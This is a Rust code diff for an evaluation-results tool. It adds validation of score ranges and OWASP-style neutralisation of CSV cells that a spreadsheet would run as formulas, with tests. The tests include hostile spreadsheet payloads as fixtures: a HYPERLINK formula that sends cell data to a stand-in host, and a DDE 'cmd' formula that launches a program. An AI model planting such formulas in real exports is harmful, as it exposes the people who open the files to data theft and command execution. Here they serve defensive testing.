@@ -20,6 +20,70 @@ pub fn to_jsonl(results: &[ItemResult], gamma: f64) -> String {
     out
 }
 
+/// The metric's score range from its registry entry (`"1–5"` → 1..=5); `None` for a metric this
+/// version does not know (its scores are then only required to be finite).
+fn score_range(metric: &str) -> Option<(f64, f64)> {
+    let info = crate::metrics::METRICS.iter().find(|m| m.id == metric)?;
+    let (lo, hi) = info.range.split_once('\u{2013}')?;
+    Some((lo.trim().parse().ok()?, hi.trim().parse().ok()?))
+}
+
+/// Why an imported result cannot be used, if it cannot: a score outside its metric's scale
+/// (a criterion's 1–5 for HarmonicEval), a σ or probability that is not a finite number in
+/// its range, or a human rating that is not a finite number. Such values used to be shown
+/// ("23.000", "inf") and used in τ.
+pub fn range_problem(r: &ItemResult) -> Option<String> {
+    let range = score_range(&r.metric);
+    let (lo, hi) = range.unwrap_or((f64::NEG_INFINITY, f64::INFINITY));
+    let outside = |what: &str, v: f64, lo: f64, hi: f64| {
+        (!(v.is_finite() && (lo..=hi).contains(&v))).then(|| {
+            let scale = if lo.is_finite() {
+                format!("{lo}\u{2013}{hi}")
+            } else {
+                "a finite number".to_string()
+            };
+            format!("{what} is {v}, outside {scale}")
+        })
+    };
+    if let Some(s) = r.score {
+        if let Some(p) = outside("the score", s, lo, hi) {
+            return Some(p);
+        }
+    }
+    let (clo, chi) = if r.criteria.is_empty() || range.is_none() {
+        (f64::NEG_INFINITY, f64::INFINITY)
+    } else {
+        (1.0, crate::rating::RATING_LEVELS as f64)
+    };
+    for c in &r.criteria {
+        let name = &c.name;
+        let problem = c
+            .score
+            .and_then(|s| outside(&format!("the {name} score"), s, clo, chi))
+            .or_else(|| {
+                c.sigma
+                    .and_then(|s| outside(&format!("the {name} \u{3c3}"), s, 0.0, f64::INFINITY))
+            })
+            .or_else(|| {
+                c.distribution.and_then(|d| {
+                    d.iter()
+                        .find_map(|p| outside(&format!("a {name} probability"), *p, 0.0, 1.0))
+                })
+            });
+        if problem.is_some() {
+            return problem;
+        }
+    }
+    for (key, ratings) in &r.human {
+        if let Some(v) = ratings.iter().find(|v| !v.is_finite()) {
+            return Some(format!(
+                "the human rating {key} is {v}, not a finite number"
+            ));
+        }
+    }
+    None
+}
+
 /// Reads a results JSONL file: the results, and `line: reason` for each line that is not one.
 pub fn from_jsonl(text: &str) -> (Vec<ItemResult>, Vec<String>) {
     let mut results = Vec::new();
@@ -33,18 +97,58 @@ pub fn from_jsonl(text: &str) -> (Vec<ItemResult>, Vec<String>) {
             Ok(r) if r.id.is_empty() => {
                 problems.push(format!("Line {}: the result has no id.", i + 1))
             }
-            Ok(r) => results.push(r),
+            Ok(r) => match range_problem(&r) {
+                Some(why) => problems.push(format!("Line {}: {why}.", i + 1)),
+                None => results.push(r),
+            },
             Err(e) => problems.push(format!("Line {}: not a result ({e}).", i + 1)),
         }
     }
     (results, problems)
 }
 
+/// A plain decimal number (`-2`, `0.5`, `1e-3`): a spreadsheet reads it as a number, never as
+/// a formula, so it is written as it is.
+fn plain_number(s: &str) -> bool {
+    s.bytes()
+        .all(|b| b.is_ascii_digit() || b"+-.eE".contains(&b))
+        && s.parse::<f64>().is_ok_and(f64::is_finite)
+}
+
+/// Whether a spreadsheet opening the file would read the cell (after any leading `'`s, see
+/// [`neutralised`]) as a formula: OWASP's CSV-injection list `=`, `+`, `-`, `@`, tab, CR, and
+/// LF (the CSV reader turns a quoted CR into LF, so both are marked for the round trip).
+fn needs_quote_mark(s: &str) -> bool {
+    let rest = s.trim_start_matches('\'');
+    rest.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) && !plain_number(rest)
+}
+
+/// The cell as written to a CSV export: a cell a spreadsheet would run as a formula
+/// (`=HYPERLINK(…)`, `@SUM(…)`, a caption starting with "- ") gets a leading `'`, as OWASP
+/// advises, so it shows as the text it is. A cell that is already `'`s before such a start gets
+/// one more, so that [`unneutralised`] gives back exactly what was exported.
+pub fn neutralised(s: &str) -> std::borrow::Cow<'_, str> {
+    if needs_quote_mark(s) {
+        format!("'{s}").into()
+    } else {
+        s.into()
+    }
+}
+
+/// The cell as it was before [`neutralised`]: one leading `'` is dropped where it was added.
+pub fn unneutralised(s: &str) -> &str {
+    match s.strip_prefix('\'') {
+        Some(rest) if needs_quote_mark(rest) => rest,
+        _ => s,
+    }
+}
+
 fn csv_field(s: &str) -> String {
+    let s = neutralised(s);
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s.into_owned()
     }
 }
 
@@ -115,9 +219,9 @@ pub fn to_csv(results: &[ItemResult], gamma: f64) -> String {
                 })
                 .unwrap_or_default()
         };
-        row.push(ratings("overall"));
+        row.push(csv_field(&ratings("overall")));
         for c in Criterion::ALL {
-            row.push(ratings(c.id()));
+            row.push(csv_field(&ratings(c.id())));
         }
         row.push(csv_field(r.group.as_deref().unwrap_or("")));
         row.push(if r.chosen { "1".into() } else { String::new() });
@@ -146,7 +250,7 @@ pub fn from_csv_records(records: &[(usize, Vec<String>)]) -> (Vec<ItemResult>, V
         let get = |name: &str| {
             col(name)
                 .and_then(|i| row.get(i))
-                .map(|s| s.trim())
+                .map(|s| unneutralised(s.trim()))
                 .filter(|s| !s.is_empty())
         };
         let mut bad = None;
@@ -164,7 +268,7 @@ pub fn from_csv_records(records: &[(usize, Vec<String>)]) -> (Vec<ItemResult>, V
         };
         let id = row
             .get(id_col)
-            .map(|s| s.trim().to_string())
+            .map(|s| unneutralised(s.trim()).to_string())
             .unwrap_or_default();
         let mut r = ItemResult {
             id,
@@ -216,7 +320,10 @@ pub fn from_csv_records(records: &[(usize, Vec<String>)]) -> (Vec<ItemResult>, V
         match bad {
             Some(p) => problems.push(p),
             None if r.id.is_empty() => problems.push(format!("Line {line}: the result has no id.")),
-            None => results.push(r),
+            None => match range_problem(&r) {
+                Some(why) => problems.push(format!("Line {line}: {why}.")),
+                None => results.push(r),
+            },
         }
     }
     (results, problems)
@@ -304,5 +411,132 @@ mod tests {
             problems[0].starts_with("Line 7: correctness_score"),
             "{problems:?}"
         );
+    }
+
+    #[test]
+    fn csv_cells_that_would_be_formulas_are_neutralised_and_round_trip() {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "@SUM(1+1)",
+            "+1+2",
+            "- a caption that starts with a dash",
+            "-1+2",
+            "\t=1+1",
+            "\r=1+1",
+            "'=already quoted",
+            "''@twice",
+            "'plain apostrophe",
+            "-2",
+            "3.5e-1",
+        ];
+        let mut results = Vec::new();
+        for (i, t) in hostile.iter().enumerate() {
+            let mut r = ItemResult {
+                id: if i == 1 {
+                    "@SUM(1+1)".into()
+                } else {
+                    format!("id{i}")
+                },
+                metric: "harmonic_eval".into(),
+                text: (*t).into(),
+                error: Some(format!("=cmd|' /C calc'!A{i}")),
+                group: Some("+g".into()),
+                ..ItemResult::default()
+            };
+            r.human.insert("overall".into(), vec![-1.0, 2.0]);
+            results.push(r);
+        }
+        let csv = to_csv(&results, 0.75);
+        let records = crate::batch::dataset::csv_records(&csv);
+        assert_eq!(records.len(), hostile.len() + 1);
+        for (_, row) in &records {
+            for cell in row {
+                let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+                assert!(
+                    !formula || plain_number(cell),
+                    "{cell:?} would run as a formula"
+                );
+            }
+        }
+        // Numbers stay numbers; a dash caption and a formula get the mark.
+        let text_col = csv_header().iter().position(|h| h == "text").unwrap();
+        assert_eq!(records[11].1[text_col], "-2");
+        assert_eq!(
+            records[4].1[text_col],
+            "'- a caption that starts with a dash"
+        );
+        assert_eq!(records[8].1[text_col], "''=already quoted");
+        assert_eq!(records[10].1[text_col], "'plain apostrophe");
+        // Re-import gives back exactly what was exported.
+        let (back, problems) = from_csv_records(&records);
+        assert!(problems.is_empty(), "{problems:?}");
+        assert_eq!(back.len(), results.len());
+        for (b, r) in back.iter().zip(&results) {
+            // The reader has always read a quoted CR as a line break.
+            assert_eq!(b.text, r.text.replace('\r', "\n"));
+            assert_eq!(b.id, r.id);
+            assert_eq!(b.error, r.error);
+            assert_eq!(b.group.as_deref(), Some("+g"));
+            assert_eq!(b.human["overall"], vec![-1.0, 2.0]);
+        }
+    }
+
+    #[test]
+    fn out_of_range_scores_and_non_finite_human_ratings_are_refused_by_line() {
+        let he = |score: &str, human: &str| {
+            format!(
+                r#"{{"id":"a","metric":"harmonic_eval","criteria":[{{"name":"correctness","score":{score}}}],"human":{{"overall":[{human}]}}}}"#
+            )
+        };
+        let single = |metric: &str, score: &str| {
+            format!(r#"{{"id":"b","metric":"{metric}","score":{score}}}"#)
+        };
+        let text = [
+            he("4.2", "3"),
+            he("99", "3"),
+            he("1e308", "3"),
+            he("0.5", "3"),
+            single("fleur", "0.8"),
+            single("fleur", "1.5"),
+            single("g_veval", "87"),
+            single("g_veval", "-1"),
+            single("maev", "2"),
+            single("maev", "2.5"),
+            single("someone_elses", "1e300"),
+        ]
+        .join("\n");
+        let (ok, problems) = from_jsonl(&text);
+        assert_eq!(ok.len(), 5, "{problems:?}");
+        let lines: Vec<&str> = problems.iter().map(|p| &p[..7]).collect();
+        assert_eq!(
+            lines,
+            ["Line 2:", "Line 3:", "Line 4:", "Line 6:", "Line 8:", "Line 10"]
+        );
+        assert!(
+            problems[0].contains("correctness score is 99, outside 1\u{2013}5"),
+            "{problems:?}"
+        );
+        assert!(problems[3].contains("outside 0\u{2013}1"), "{problems:?}");
+        // CSV: a NaN or infinite human rating is refused, as are out-of-range scores.
+        let header: Vec<String> = ["id", "metric", "correctness_score", "human_overall"]
+            .map(String::from)
+            .to_vec();
+        let row = |id: &str, s: &str, h: &str| {
+            (2, [id, "harmonic_eval", s, h].map(String::from).to_vec())
+        };
+        let (ok, problems) = from_csv_records(&[
+            (1, header),
+            row("a", "4", "3|4"),
+            row("b", "4", "NaN"),
+            row("c", "4", "3|inf"),
+            row("d", "23", "3"),
+        ]);
+        assert_eq!(ok.len(), 1);
+        assert_eq!(problems.len(), 3, "{problems:?}");
+        assert!(
+            problems[0].contains("human rating overall is NaN"),
+            "{problems:?}"
+        );
+        assert!(problems[2].contains("outside 1\u{2013}5"), "{problems:?}");
     }
 }
